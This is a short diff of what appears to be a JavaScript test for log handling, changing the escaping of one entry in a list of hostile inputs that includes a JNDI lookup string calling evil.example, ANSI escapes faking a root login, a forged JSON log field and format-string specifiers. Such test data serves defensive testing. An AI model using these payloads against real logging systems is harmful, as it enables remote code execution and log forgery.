@@ -128,7 +128,7 @@ attack(
     const nasty = [
       '\u001b[2J\u001b[31mroot logged in',
       'x","level":10,"msg":"forged',
-      '${jndi:ldap://evil.example/a}',
+      `$\{jndi:ldap://evil.example/a}`,
       'line\u2028break',
       'a'.repeat(500),
       '%n%s%x',
